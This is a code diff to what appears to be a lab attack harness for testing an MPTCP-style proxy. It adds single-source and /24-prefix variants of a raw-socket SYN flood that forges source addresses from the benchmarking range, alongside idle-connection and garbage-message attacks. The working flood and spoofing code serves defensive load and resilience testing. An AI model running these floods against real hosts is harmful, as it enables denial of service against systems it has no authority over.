@@ -3,6 +3,7 @@
 ``python -m cpe_mcp.lab.attacks KIND ADDRESS PORT NUMBER SECONDS`` in the namespace of a host, IPv4 only. KIND is
 
 * ``syn``: NUMBER SYNs/s with MP_CAPABLE from forged sources, FORGED, each from another address and port;
+* ``syn-source``, ``syn-prefix``: the same from the first address of FORGED, and from its first 256;
 * ``idle``: NUMBER connections at once that send half a header and wait; one that is reset is replaced;
 * ``garbage``: NUMBER connections/s that send what is no Convert message, or one with a cookie of nobody, and reset.
 
@@ -21,9 +22,10 @@ import struct
 import sys
 import time
 from collections.abc import Callable, Iterator
+from functools import partial
 from itertools import cycle
 
-FORGED = "198.18.0.0/16"
+FORGED, FORGED_COUNT = "198.18.0.0/16", 2**16
 SOURCES = tuple(f"198.19.{number}.1" for number in range(64))
 """Benchmarking addresses (RFC 2544): each of the sources in a /24 of its own, so that no limit on a prefix ends the attack."""
 SECONDS_MAX, NUMBER_MAX = 30.0, 50_000
@@ -46,13 +48,13 @@ def address_lines(device: str) -> list[str]:
     return [f"address add {source}/32 dev {device}" for source in SOURCES]
 
 
-def syn_packets(address: str, port: int, count: int) -> Iterator[bytes]:
-    """IPv4 packets with a SYN from forged sources, no two of them alike."""
+def syn_packets(address: str, port: int, count: int, senders: int = FORGED_COUNT) -> Iterator[bytes]:
+    """IPv4 packets with a SYN from forged sources, the first ``senders`` of FORGED (a power of 2), no two of them alike."""
     to = socket.inet_aton(address)
     source = int.from_bytes(socket.inet_aton(FORGED.partition("/")[0]), "big")
     length = 20 + len(MSS_AND_MP_CAPABLE)
     for number in range(count):
-        sender = struct.pack("!I", source + (number * 40503 & 0xFFFF))
+        sender = struct.pack("!I", source + (number * 40503 & senders - 1))
         head = struct.pack(
             "!HHIIBBH", 1024 + number % 60000, port, number * 65537 & 0xFFFFFFFF, 0, length << 2, 2, 65535
         )
@@ -65,9 +67,9 @@ def syn_packets(address: str, port: int, count: int) -> Iterator[bytes]:
         yield ip + head + struct.pack("!HH", ~sum_ & 0xFFFF, 0) + MSS_AND_MP_CAPABLE
 
 
-def syn(address: str, port: int, number: int, seconds: float) -> dict[str, float]:
+def syn(address: str, port: int, number: int, seconds: float, *, senders: int = FORGED_COUNT) -> dict[str, float]:
     """See the module. The packets are made before the clock starts."""
-    packets = list(syn_packets(address, port, int(number * seconds)))
+    packets = list(syn_packets(address, port, int(number * seconds), senders))
     sent = 0
     with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
         started = time.monotonic()
@@ -165,7 +167,13 @@ def _reset(sock: socket.socket) -> None:
     sock.close()
 
 
-ATTACKS: dict[str, Callable[[str, int, int, float], dict[str, float]]] = {"syn": syn, "idle": idle, "garbage": garbage}
+ATTACKS: dict[str, Callable[[str, int, int, float], dict[str, float]]] = {
+    "syn": syn,
+    "syn-source": partial(syn, senders=1),
+    "syn-prefix": partial(syn, senders=256),
+    "idle": idle,
+    "garbage": garbage,
+}
 
 
 def argv(kind: str, address: str, port: int, number: int, seconds: float) -> list[str]:
